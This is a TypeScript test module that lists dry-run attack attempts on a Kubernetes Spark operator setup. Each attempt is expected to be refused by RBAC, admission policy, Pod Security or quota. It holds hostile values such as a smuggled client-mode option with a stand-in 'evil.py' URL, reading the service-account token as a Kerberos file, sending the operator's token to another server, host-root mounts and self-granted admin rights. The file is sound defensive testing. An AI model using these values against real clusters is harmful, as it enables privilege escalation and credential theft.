import {
  CoreV1Api,
  CustomObjectsApi,
  KubeConfig,
  NetworkingV1Api,
  RbacAuthorizationV1Api,
} from "@kubernetes/client-node";
import type { V1Pod, V1PodSpec } from "@kubernetes/client-node";
import { clients, jobNamespace, kubeConfig, operatorNamespace } from "../e2e/support/cluster";
import { lakehouseNamespace } from "../e2e/support/lakehouse";
import { likeTestSparkPi, type SparkApplicationObject, submit } from "../e2e/support/spark-applications";
import type { Attempt } from "./attempt";

const namespace = jobNamespace;
const dryRun = "All";

/** The API as an account of the jobs' namespace sees it. */
async function apiAs(account: string) {
  const { status } = await clients().core.createNamespacedServiceAccountToken({
    name: account,
    namespace,
    body: { spec: { audiences: [], expirationSeconds: 600 } },
  });
  const config = new KubeConfig();
  config.loadFromClusterAndUser(kubeConfig().getCurrentCluster()!, { name: account, token: status!.token });
  return {
    core: config.makeApiClient(CoreV1Api),
    custom: config.makeApiClient(CustomObjectsApi),
    networking: config.makeApiClient(NetworkingV1Api),
    rbac: config.makeApiClient(RbacAuthorizationV1Api),
  };
}
const driver = () => apiAs("spark-application-sa");
const executor = () => apiAs("spark-executor-sa");

/** An executor as a driver makes it, which is admitted. */
function executorPod(change: Partial<V1PodSpec> = {}, env: V1PodSpec["containers"][number]["env"] = []): V1Pod {
  const securityContext = { allowPrivilegeEscalation: false, capabilities: { drop: ["ALL"] } };
  return {
    metadata: { name: "attack" },
    spec: {
      serviceAccountName: "spark-executor-sa",
      automountServiceAccountToken: false,
      securityContext: { runAsNonRoot: true, runAsUser: 185, seccompProfile: { type: "RuntimeDefault" } },
      containers: [
        {
          name: "spark-kubernetes-executor",
          image: "localhost/spark:3.5.5",
          env,
          resources: { requests: { cpu: "100m", memory: "512Mi" }, limits: { memory: "512Mi" } },
          securityContext,
        },
      ],
      ...change,
    },
  };
}

export async function startAsDriver(pod: V1Pod = executorPod()): Promise<V1Pod> {
  return (await driver()).core.createNamespacedPod({ namespace, body: pod, dryRun });
}

/** A job like one of the stack, with other fields, as anybody submits it who may. */
export async function submitChanged(change: Record<string, unknown> = {}): Promise<void> {
  const job: SparkApplicationObject = await likeTestSparkPi("attack");
  await submit({ ...job, spec: { ...job.spec, ...change } }, { dryRun: true });
}

const withConf = async (conf: Record<string, string>) => {
  const { spec } = await likeTestSparkPi("attack");
  return submitChanged({ sparkConf: { ...(spec.sparkConf as object), ...conf } });
};

const secretVariable = (name: string) => [
  { name: "KEY", valueFrom: { secretKeyRef: { name, key: "AWS_SECRET_ACCESS_KEY" } } },
];

const onEachNode = () =>
  clients().core.createNamespacedService({
    namespace,
    body: { metadata: { name: "attack" }, spec: { ports: [{ port: 80 }], type: "NodePort" } },
    dryRun,
  });

const rbac = { refusedBy: "RBAC", says: /is forbidden: User/ };
const jobsPolicy = "admission policy `spark-jobs`";
const podsPolicy = "admission policy `driver-pods`";
const byJobsPolicy = { refusedBy: jobsPolicy, says: /ValidatingAdmissionPolicy 'spark-jobs\.spark-applications'/ };
const byPodsPolicy = { refusedBy: podsPolicy, says: /ValidatingAdmissionPolicy 'driver-pods\.spark-applications'/ };

const byAuthors: Attempt[] = [
  {
    tries: "run the driver in the operator's pod, with an option instead of the program",
    run: () => submitChanged({ mainApplicationFile: "--deploy-mode=client", arguments: ["http://192.0.2.1/evil.py"] }),
  },
  {
    tries: "request uncounted executors, with an option instead of the program",
    run: () => submitChanged({ mainApplicationFile: "--conf=spark.executor.instances=50" }),
  },
  {
    tries: "request uncounted executors, with `=` in a key",
    run: () => withConf({ "spark.driver.extraJavaOptions=-Dspark.executor.instances=50 -Dx": "1" }),
  },
  {
    tries: "request uncounted executors, with Java options",
    run: () => withConf({ "spark.driver.extraJavaOptions": '-D"spark.executor.instances"=50' }),
  },
  {
    tries: "publish the operator's token as a Kerberos configuration",
    run: () =>
      withConf({ "spark.kubernetes.kerberos.krb5.path": "/var/run/secrets/kubernetes.io/serviceaccount/token" }),
  },
  {
    tries: "send the operator's token to another server",
    run: () => withConf({ "spark.kubernetes.context": "elsewhere", "spark.master": "k8s://https://192.0.2.1" }),
  },
  {
    tries: "load a pod template from a file in the operator's pod",
    run: () => withConf({ "spark.kubernetes.driver.podTemplateFile": "/tmp/pod.yaml" }),
  },
  {
    tries: "run the job in the operator's namespace",
    run: () => withConf({ "spark.kubernetes.namespace": operatorNamespace }),
  },
].map((attempt) => ({ who: "author", ...byJobsPolicy, ...attempt }));

const byDriversOverPods: Attempt[] = [
  {
    tries: "start a pod with the driver's account",
    run: () => startAsDriver(executorPod({ serviceAccountName: "spark-application-sa" })),
  },
  {
    tries: "start an executor with a token",
    run: () => startAsDriver(executorPod({ automountServiceAccountToken: true })),
  },
  {
    tries: "start an executor with a token for another audience",
    run: () =>
      startAsDriver(
        executorPod({
          volumes: [
            { name: "token", projected: { sources: [{ serviceAccountToken: { audience: "vault", path: "token" } }] } },
          ],
        }),
      ),
  },
  {
    tries: "read a Secret that is not for jobs, through a variable",
    run: () => startAsDriver(executorPod({}, secretVariable("history-keys"))),
  },
  {
    tries: "read a Secret that is not for jobs, through a volume",
    run: () => startAsDriver(executorPod({ volumes: [{ name: "keys", secret: { secretName: "history-keys" } }] })),
  },
  {
    tries: "preempt other pods with a priority class",
    run: () => startAsDriver(executorPod({ priorityClassName: "system-node-critical" })),
  },
  {
    tries: "bypass the scheduler by naming an executor's node",
    run: () => startAsDriver(executorPod({ nodeName: "sandbox" })),
  },
  {
    tries: "start an executor on a control plane node",
    run: () => startAsDriver(executorPod({ tolerations: [{ operator: "Exists" }] })),
  },
].map((attempt) => ({ who: "driver", ...byPodsPolicy, ...attempt }));

const byDriversElsewhere: Attempt[] = [
  {
    tries: "create a Service with an external IP or a node port",
    run: async () =>
      (await driver()).core.createNamespacedService({
        namespace,
        body: { metadata: { name: "attack" }, spec: { ports: [{ port: 80 }], externalIPs: ["203.0.113.7"] } },
        dryRun,
      }),
  },
  {
    tries: "change a running pod",
    run: async () =>
      (await driver()).core.patchNamespacedPod({ name: "any", namespace, body: { metadata: {} }, dryRun }),
  },
  {
    tries: "read a Secret",
    run: async () => (await driver()).core.readNamespacedSecret({ name: "object-store-jobs", namespace }),
  },
  {
    tries: "read the Secrets of the lakehouse",
    run: async () => (await driver()).core.listNamespacedSecret({ namespace: lakehouseNamespace }),
  },
  {
    tries: "run a command in another job's pod",
    run: async () => (await driver()).core.connectPostNamespacedPodExec({ name: "any", namespace, command: "id" }),
  },
  {
    tries: "request a token of another account",
    run: async () =>
      (await driver()).core.createNamespacedServiceAccountToken({
        name: "spark-operator-controller",
        namespace: operatorNamespace,
        body: { spec: { audiences: [] } },
      }),
  },
  {
    tries: "submit a job",
    run: async (): Promise<unknown> =>
      (await driver()).custom.createNamespacedCustomObject({
        ...{ group: "sparkoperator.k8s.io", version: "v1beta2", plural: "sparkapplications", namespace, dryRun },
        body: await likeTestSparkPi("attack"),
      }),
  },
  {
    tries: "change the network policies of jobs",
    run: async () =>
      (await driver()).networking.createNamespacedNetworkPolicy({
        namespace,
        body: { metadata: { name: "attack" }, spec: { podSelector: {}, ingress: [{}] } },
        dryRun,
      }),
  },
  {
    tries: "grant itself permissions",
    run: async () =>
      (await driver()).rbac.createNamespacedRoleBinding({
        namespace,
        body: {
          metadata: { name: "attack" },
          roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "admin" },
        },
        dryRun,
      }),
  },
].map((attempt) => ({ who: "driver", ...rbac, ...attempt }));

const byPodSecurity = { refusedBy: "Pod Security `restricted`", says: /violates PodSecurity \W*restricted/ };

const others: Attempt[] = [
  {
    ...{ who: "author", tries: "publish a job's Service on a node port", refusedBy: "quota `spark-jobs`" },
    says: /exceeded quota: spark-jobs, requested: services\.nodeports=1/,
    run: onEachNode,
  },
  {
    ...{ who: "driver", tries: "mount a directory of the node into an executor", ...byPodSecurity },
    run: () => startAsDriver(executorPod({ volumes: [{ name: "node", hostPath: { path: "/" } }] })),
  },
  {
    ...{ who: "driver", tries: "start an executor in the host network", ...byPodSecurity },
    run: () => startAsDriver(executorPod({ hostNetwork: true })),
  },
  {
    ...{ who: "executor", tries: "start a pod", ...rbac },
    run: async () => (await executor()).core.createNamespacedPod({ namespace, body: executorPod(), dryRun }),
  },
  {
    ...{ who: "executor", tries: "read the settings of other jobs", ...rbac },
    run: async () => (await executor()).core.listNamespacedConfigMap({ namespace }),
  },
];

/** What is tried at the API server. All of it is a dry run, should it be admitted. */
export const attemptsOnKubernetes: readonly Attempt[] = [
  ...byAuthors,
  ...byDriversOverPods,
  ...byDriversElsewhere,
  ...others,
];
